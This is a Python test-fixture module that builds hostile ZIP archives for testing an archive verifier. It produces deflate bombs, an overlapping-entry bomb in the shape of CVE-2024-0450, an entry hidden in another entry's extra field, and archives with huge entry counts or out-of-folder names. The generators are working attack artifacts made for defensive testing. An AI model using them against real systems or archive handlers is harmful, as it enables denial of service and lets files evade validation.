"""Real hostile ZIPs, built byte by byte for the tests of `carebinder verify`: a deflate bomb,
the overlapping-entry bomb of CVE-2024-0450, an entry hidden in another's local header,
names that climb out of the folder, 100,000 entries, a 1 GB SHA256SUMS.

Gigabytes of zeros cost nothing to make: deflate compresses a megabyte of zeros to about a
kilobyte, and after a full flush the same input gives the same bytes again, so a stream of
N megabytes of zeros is one flushed block repeated N times and a final empty block.
"""

from __future__ import annotations

import hashlib
import struct
import zipfile
import zlib
from dataclasses import dataclass

MB = 1 << 20
_LOCAL = struct.Struct("<4s5H3L2H")
_CENTRAL = struct.Struct("<4s6H3L5H2L")
_END = struct.Struct("<4s4H2LH")
_ZEROS = bytes(MB)


def deflated_zeros(megabytes: int) -> tuple[bytes, int]:
    """A raw deflate stream of `megabytes` MB of zeros, and its CRC-32."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packer.compress(_ZEROS)
    packer.flush(zlib.Z_FULL_FLUSH)  # from here on, each megabyte packs to the same bytes
    block = packer.compress(_ZEROS) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(_ZEROS, crc)
    return block * megabytes + end, crc


@dataclass
class Member:
    name: str
    data: bytes  # as stored (deflated when method is 8)
    crc: int
    size: int  # unpacked
    method: int = zipfile.ZIP_DEFLATED
    local_extra: bytes = b""
    offset: int | None = None  # where its local header is: None, right after the previous


def _local(member: Member) -> bytes:
    name = member.name.encode()
    header = _LOCAL.pack(
        b"PK\x03\x04", 20, 0, member.method, 0, 0x21,
        member.crc, len(member.data), member.size, len(name), len(member.local_extra),
    )  # fmt: skip
    return header + name + member.local_extra


def build(members: list[Member], tail: bytes = b"") -> bytes:
    """Local headers and data in order (or at each member's `offset`), then the directory."""
    out = bytearray()
    offsets = []
    for member in members:
        if member.offset is None:
            offsets.append(len(out))
            out += _local(member) + member.data
        else:
            offsets.append(member.offset)  # already in place, inside another's bytes
    out += tail
    directory = b"".join(_central(m, o) for m, o in zip(members, offsets, strict=True))
    return bytes(out) + directory + _end(len(members), directory, len(out))


def sums_member(listed: dict[str, str]) -> Member:
    text = "".join(f"{digest}  {name}\n" for name, digest in listed.items()).encode()
    return Member("SHA256SUMS", text, zlib.crc32(text), len(text), zipfile.ZIP_STORED)


def deflate_bomb(megabytes: int = 1024) -> bytes:
    """An original that unpacks to `megabytes` MB of zeros, listed in SHA256SUMS."""
    data, crc = deflated_zeros(megabytes)
    bomb = Member("records/pathology/2024-01-01 Report.pdf", data, crc, megabytes * MB)
    return build([sums_member({bomb.name: "0" * 64}), bomb])


def sums_bomb(megabytes: int = 1024) -> bytes:
    """A SHA256SUMS that unpacks to `megabytes` MB (of zeros): 1 GB from 1 MB."""
    data, crc = deflated_zeros(megabytes)
    return build([Member("SHA256SUMS", data, crc, megabytes * MB)])


def _zeros_crc(megabytes: int, crc: int = 0) -> int:
    for _ in range(megabytes):
        crc = zlib.crc32(_ZEROS, crc)
    return crc


def _central(member: Member, offset: int) -> bytes:
    name = member.name.encode()
    return _CENTRAL.pack(
        b"PK\x01\x02", 20, 20, 0, member.method, 0, 0x21,
        member.crc, len(member.data), member.size, len(name), 0, 0, 0, 0, 0, offset,
    ) + name  # fmt: skip


def _end(count: int, directory: bytes, at: int) -> bytes:
    return _END.pack(b"PK\x05\x06", 0, 0, count, count, len(directory), at, 0)


def overlap_bomb(files: int = 64, kernel_megabytes: int = 16) -> bytes:
    """The overlapping-entry bomb (David Fifield's, the shape of CVE-2024-0450).

    One kernel of deflated zeros at the end, and before it every file's local header. Each
    file's data begins with stored deflate blocks that quote the local headers after it,
    then runs on into the kernel: every file unpacks the headers after it and the kernel,
    so `files` entries unpack `files` kernels from bytes stored once. Every name in the
    central directory matches its local header, so Python 3.11.7's zipfile opens each one.
    """
    kernel, _ = deflated_zeros(kernel_megabytes)
    members: list[Member] = []
    data = kernel  # the stored bytes of the file being built: from its header's end on
    after = b""  # what its quotes unpack to: the local headers after it
    digests: dict[str, str] = {}  # right ones: a checker that unpacks reads every file
    for number in reversed(range(files)):
        crc = _zeros_crc(kernel_megabytes, zlib.crc32(after))
        name = f"records/other/{number:04d} Letter.pdf"
        member = Member(name, data, crc, len(after) + kernel_megabytes * MB)
        members.insert(0, member)
        digest = hashlib.sha256(after)
        for _ in range(kernel_megabytes):
            digest.update(_ZEROS)
        digests[name] = digest.hexdigest()
        header = _local(member)
        quote = struct.pack("<BHH", 0, len(header), 0xFFFF ^ len(header))  # a stored block
        data = quote + header + data
        after = header + after
    # SHA256SUMS first, listing every file (so a checker reads them all), then the bomb.
    sums = sums_member(dict(sorted(digests.items())))
    body = _local(sums) + sums.data
    directory = _central(sums, 0)
    offset = len(body)
    body += data[5:]  # the first file's header and data: every other file lies inside them
    for member in members:
        directory += _central(member, offset)
        offset += len(_local(member)) + 5  # the next header follows this one's quote
    return body + directory + _end(files + 1, directory, len(body))


def hidden_in_extra_field() -> bytes:
    """Entry b's local header and data sit inside entry a's local extra field: the bytes of
    both are readable, and shared. Only a check that counts the local header's own length
    sees the overlap: a's data alone ends before b begins."""
    hidden_text = b"a second meaning for the same bytes"
    inner = Member("b.txt", hidden_text, zlib.crc32(hidden_text), len(hidden_text), 0)
    inner_bytes = _local(inner) + hidden_text
    pad = b"\0" * 8
    text = b"the first file"
    outer = Member(
        "a.txt", text, zlib.crc32(text), len(text), 0, local_extra=pad + inner_bytes + pad
    )
    # b's local header is at: a's header (30) + name (5) + pad (8).
    inner.offset = 30 + len(outer.name) + len(pad)
    return build([outer, inner])


def with_names(names: list[str]) -> bytes:
    members = [Member(name, b"x", zlib.crc32(b"x"), 1, 0) for name in names]
    listed = {m.name: hashlib.sha256(b"x").hexdigest() for m in members}
    return build([sums_member(listed), *members])


def many_entries(count: int) -> bytes:
    """`count` empty files (zipfile writes the zip64 end record past 65,535)."""
    import io

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", allowZip64=True) as archive:
        for number in range(count):
            archive.writestr(f"records/other/{number}.txt", b"")
    return out.getvalue()
